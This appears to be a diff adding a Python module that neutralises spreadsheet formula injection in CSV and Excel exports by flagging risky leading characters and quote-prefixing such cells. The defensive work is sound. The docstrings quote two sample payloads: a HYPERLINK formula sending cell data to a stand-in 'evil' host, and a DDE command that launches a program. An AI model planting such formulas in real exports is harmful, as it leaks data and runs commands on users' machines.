@@ -1,0 +1,109 @@
+"""One policy for text cells that a spreadsheet could run: which to neutralise, and how.
+
+A spreadsheet reads a cell beginning with ``=``, ``+``, ``-``, ``@`` (and, in some, ``|`` or
+``%``) as a formula, even after leading spaces, and a leading tab, CR or LF can hide it. Values
+that came from a server are untrusted: a title such as ``=HYPERLINK("http://evil/?"&A1)`` must
+reach the auditor as text. The policy touches **text only**: numbers (a negative number too) and
+text that is a plain number (``"-3"``) are left alone, as nothing can run in them.
+
+Pure: no I/O. CSV applies :func:`safe_cell` (a leading ``'``); Excel keeps the value and marks the
+cell with a quote-prefix style (:func:`risky`); HTML escapes everything instead.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+from collections.abc import Mapping
+from typing import Any, Literal
+
+import numpy as np
+import pandas as pd
+
+from mediaframe.exceptions import InvalidParameterError
+
+__all__ = ["FORMULA_POLICIES", "FormulaPolicy", "plain_text", "risky", "safe_cell", "safe_frame"]
+
+FormulaPolicy = Literal["escape", "off"]
+#: ``escape`` (the default) neutralises risky text; ``off`` writes it as it is (trusted data).
+FORMULA_POLICIES: tuple[FormulaPolicy, ...] = ("escape", "off")
+
+# A leading control character is risky whatever follows; otherwise the first character after
+# whitespace and control characters decides.
+_RISKY = re.compile(r"[\t\r\n\x00]|[\s\x00-\x1f]*[=+\-@|%]")
+_NUMBER = re.compile(r"\s*[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?\s*")
+
+
+def risky(text: str) -> bool:
+    """Whether a spreadsheet could take ``text`` for a formula.
+
+    Examples
+    --------
+    >>> risky("=1+1"), risky("  @SUM(A1)"), risky("\\t=x"), risky("-3"), risky("sunset")
+    (True, True, True, False, False)
+    """
+    if not _RISKY.match(text):
+        return False
+    return text[:1] in "\t\r\n\x00" or not _NUMBER.fullmatch(text)
+
+
+def safe_cell(value: Any, policy: FormulaPolicy = "escape") -> Any:
+    """``value`` as a CSV cell may hold it: risky text gets a leading ``'``, the rest is kept.
+
+    Examples
+    --------
+    >>> safe_cell("=cmd|' /C calc'!A0"), safe_cell(-3), safe_cell("-3"), safe_cell("Ada")
+    ("'=cmd|' /C calc'!A0", -3, '-3', 'Ada')
+    """
+    _check_policy(policy)
+    if policy == "escape" and isinstance(value, str) and risky(value):
+        return "'" + value
+    return value
+
+
+def plain_text(value: Any) -> Any:
+    """A list, tuple, set or mapping as one text (lists ``"; "``-joined); other values as given."""
+    if isinstance(value, list | tuple | set | frozenset | np.ndarray):
+        return "; ".join("" if v is None else str(v) for v in value)
+    if isinstance(value, Mapping):
+        return json.dumps(value, ensure_ascii=False, default=str, sort_keys=True)
+    return value
+
+
+def risky_mask(column: pd.Series) -> pd.Series:
+    """Which cells of ``column`` are risky text (all ``False`` for a column of numbers)."""
+    if not _textual(column):
+        return pd.Series(False, index=column.index)
+    return column.map(lambda v: isinstance(v, str) and risky(v)).astype(bool)
+
+
+def safe_frame(frame: pd.DataFrame, policy: FormulaPolicy = "escape") -> pd.DataFrame:
+    """A copy of ``frame`` fit for CSV: nested values as text, risky text and names neutralised.
+
+    Columns of numbers, dates and booleans are kept as they are, dtypes included.
+    """
+    _check_policy(policy)
+    columns: dict[str, pd.Series] = {}
+    for name, column in frame.items():
+        if _textual(column):
+            column = column.astype(object).map(plain_text)
+            if policy == "escape":
+                column = column.map(safe_cell)
+        columns[str(safe_cell(str(name), policy))] = column
+    out = pd.DataFrame(columns, index=frame.index)
+    out.attrs.update(frame.attrs)
+    return out
+
+
+def _textual(column: pd.Series) -> bool:
+    dtype = column.dtype
+    if isinstance(dtype, pd.CategoricalDtype):
+        return not pd.api.types.is_numeric_dtype(dtype.categories.dtype)
+    return pd.api.types.is_string_dtype(dtype) or pd.api.types.is_object_dtype(dtype)
+
+
+def _check_policy(policy: str) -> None:
+    if policy not in FORMULA_POLICIES:
+        raise InvalidParameterError(
+            f"formula_policy must be one of {FORMULA_POLICIES}, not {policy!r}"
+        )
